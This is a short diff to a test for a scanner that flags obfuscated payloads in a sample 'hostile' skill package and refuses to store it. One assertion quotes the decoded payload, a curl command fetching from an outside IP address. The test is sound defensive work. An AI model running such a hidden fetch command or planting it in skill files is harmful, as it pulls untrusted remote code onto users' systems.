@@ -148,7 +148,7 @@ def test_check_shows_findings_and_keeps_nothing(stranger):
 
     ran = stranger.run("check", SAMPLES / "hostile" / "pdf-tidy")
     assert ran.code == 5
-    assert "\n  SKILL.md:18\n" in ran.out and "[decoded_payload, SK-OBF]" in ran.out
+    assert "/pdf-tidy/SKILL.md:18\n" in ran.out and "[decoded_payload, SK-OBF]" in ran.out
     assert "= decoded: curl -s http://203.0.113.77" in ran.out
     assert not Skill.objects.exists()
 
